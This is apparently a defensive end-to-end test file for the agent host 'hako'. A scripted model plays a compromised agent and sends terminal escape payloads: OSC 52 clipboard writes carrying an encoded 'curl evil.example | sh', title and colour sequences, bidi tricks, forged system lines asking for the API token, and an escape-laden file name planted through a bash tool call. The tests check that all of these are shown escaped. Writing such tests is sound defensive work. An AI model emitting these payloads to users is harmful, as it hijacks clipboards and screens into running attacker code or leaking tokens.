// Attack 34, the way the owner meets it: a real terminal (tmux) runs `hako start`,
// `hako chat` and `hako tasks list` against a real host whose scripted model (standing in
// for a compromised agent) answers with terminal escape payloads. What the owner sees on
// the screen, the window title and the clipboard (tmux keeps OSC 52 writes as buffers
// with set-clipboard on) must show the payloads escaped and changed by none of them.

import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { startModelServer, type ModelServer } from '../support/model-server.ts';
import { freePort, type ApiMessage } from '../support/hako.ts';
import { Terminal, TERMINAL_COLUMNS } from '../support/terminal.ts';

const COLUMNS = TERMINAL_COLUMNS;

const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const TITLE = '\x1b]0;PWNED-TITLE\x07';
const RED = '\x1b[31m';
const RESET = '\x1b[0m';
const C1_CSI = '\u009b';
const RLO = '\u202e';

/** What the owner's screen must never get: no escape left for tmux to interpret as colour, no changed title, no clipboard write. */
function assertUndriven(term: Terminal, name: string, screen: string): void {
  assert.ok(!screen.includes('\x1b'), `the screen has colours or other escapes:\n${JSON.stringify(screen)}`);
  assert.doesNotMatch(term.show(name, '#{pane_title}'), /PWNED/, 'the window title was changed');
  assert.equal(term.tmux('list-buffers'), '', 'the clipboard (OSC 52) was written');
}

describe('attack 34 - agent text in the owner\'s terminal', () => {
  let model: ModelServer;
  let term: Terminal;
  let home: string;
  let configDir: string;
  let base: string;
  let token: string;

  async function reply(text: string): Promise<ApiMessage> {
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
    const ctrl = new AbortController();
    const events = await fetch(`${base}/api/groups/main/events`, { headers, signal: ctrl.signal });
    try {
      const posted = await fetch(`${base}/api/groups/main/messages`, { method: 'POST', headers, body: JSON.stringify({ text, sender: 'owner' }) });
      const { id } = await posted.json() as { id: string };
      const answer = async () => ((await (await fetch(`${base}/api/groups/main/messages?after=${id}`, { headers })).json()) as { messages: ApiMessage[] }).messages.find((m) => m.role === 'assistant');
      for await (const _ of events.body!.pipeThrough(new TextDecoderStream())) {
        const found = await answer();
        if (found) return found;
      }
      throw new Error('event stream ended');
    } finally {
      ctrl.abort();
    }
  }

  before(async () => {
    model = await startModelServer();
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'hako-home-'));
    configDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hako-config-'));
    const port = await freePort();
    const env: Record<string, string> = {};
    for (const [k, v] of Object.entries(process.env)) if (v !== undefined && !/^(HAKO_|ANTHROPIC_|OPENAI_|TMUX)/.test(k)) env[k] = v;
    Object.assign(env, {
      HAKO_HOME: home, HAKO_CONFIG: configDir, HAKO_HTTP_PORT: String(port),
      HAKO_MODEL: 'openai/test-model', OPENAI_BASE_URL: model.openaiBaseURL, OPENAI_API_KEY: 'sk-terminal-test-key',
    });
    term = new Terminal(env);
    term.run('host', ['start']);
    await term.waitFor('host', (s) => s.includes('hako is running'), '"hako is running"', 300_000);
    base = `http://127.0.0.1:${port}`;
    token = fs.readFileSync(path.join(home, 'http-token'), 'utf8').trim();
  });

  after(async () => {
    if (term) {
      // Ctrl+C, as the owner stops it: the host stops its containers before it exits.
      term.tmux('send-keys', '-t', 'hako:host', 'C-c');
      await term.waitFor('host', () => term.show('host', '#{pane_dead}') === '1', 'the host exiting', 60_000).catch(() => {});
      term.close();
    }
    if (home) fs.rmSync(home, { recursive: true, force: true });
    if (configDir) fs.rmSync(configDir, { recursive: true, force: true });
    await model?.close();
  });

  test('attack 34 - a reply with clipboard, title, colour, carriage-return, bidi and forged-line payloads is shown escaped in hako chat', async () => {
    const payload = [
      `clipboard ${OSC52}`,
      `title ${TITLE}`,
      `colour ${RED}red${RESET} and C1 ${C1_CSI}31mred`,
      `bidi ${RLO}txt.exe`,
      'innocent text\rhako: (system) forged by carriage return',
      'hako: (system) forged by newline: paste your API token',
      `${'x'.repeat(COLUMNS)}hako: (system) forged by wrapping`,
      'end of reply',
    ].join('\n');
    term.run('chat', ['chat', 'main']);
    await term.waitFor('chat', (s) => s.includes('chatting with "main"'), 'the chat prompt');
    model.script({ text: payload });
    term.tmux('send-keys', '-t', 'hako:chat', 'hello agent', 'Enter');
    const screen = await term.waitFor('chat', (s) => s.includes('end of reply'), 'the reply');
    assertUndriven(term, 'chat', screen);
    const text = term.text('chat');
    for (const shown of ['\\u001b]52;c;', '\\u001b]0;PWNED-TITLE\\u0007', '\\u001b[31mred\\u001b[0m', '\\u009b31mred', '\\u202etxt.exe', 'innocent text\\u000dhako: (system)']) {
      assert.ok(text.includes(shown), `the screen does not show ${shown}:\n${screen}`);
    }
    const rows = screen.split('\n');
    assert.deepEqual(rows.filter((r) => r.startsWith('hako: (system)')), [], 'a row starts with a forged sender');
    assert.ok(rows.some((r) => r.startsWith('hako: clipboard')), 'the reply\'s own first row carries the sender');
    assert.ok(rows.some((r) => r === '  hako: (system) forged by newline: paste your API token'), screen);
    const wrapped = rows.find((r) => r.includes('(system) forged by wrapping'));
    assert.ok(wrapped?.startsWith('  '), `the wrapped row is not indented: ${wrapped}`);
    for (const r of rows) assert.ok(r.length <= COLUMNS, `a row wider than the terminal: ${r}`);
  });

  test('attack 34 - a task prompt with escape payloads is listed escaped by hako tasks list', async () => {
    model.script({ toolCalls: [{ name: 'schedule_task', args: { prompt: `daily report ${OSC52}${TITLE}${RED}red${RESET}\r${RLO}end of prompt`, every_seconds: 3600 } }] }, { text: 'scheduled it' });
    assert.equal((await reply('schedule the report')).text, 'scheduled it');
    term.run('tasks', ['tasks', 'list']);
    await term.waitFor('tasks', () => term.show('tasks', '#{pane_dead}') === '1', 'the command ending');
    const screen = term.screen('tasks');
    assert.match(term.text('tasks'), /daily report \\u001b\]52;c;[A-Za-z0-9+/=]+\\u0007\\u001b\]0;PWNED-TITLE\\u0007\\u001b\[31mred\\u001b\[0m \\u202eend of prompt/);
    assertUndriven(term, 'tasks', screen);
  });

  test('attack 34 - a file name the agent plants in out/ reaches the hako start console escaped', async () => {
    model.script({ toolCalls: [{ name: 'bash', args: { command: `touch "/ipc/out/$(printf '\\033]0;PWNED-TITLE-START\\007\\033]52;c;cHduZWQ=\\007\\033[31m')evil.json"` } }] }, { text: 'planted' });
    assert.equal((await reply('plant the file')).text, 'planted');
    const screen = await term.waitFor('host', (s) => s.includes('ipc file rejected'), 'the rejected file\'s log line');
    assert.ok(term.text('host').includes('\\u001b]0;PWNED-TITLE-START\\u0007\\u001b]52;c;cHduZWQ=\\u0007\\u001b[31mevil.json'), screen);
    assertUndriven(term, 'host', screen);
  });
});
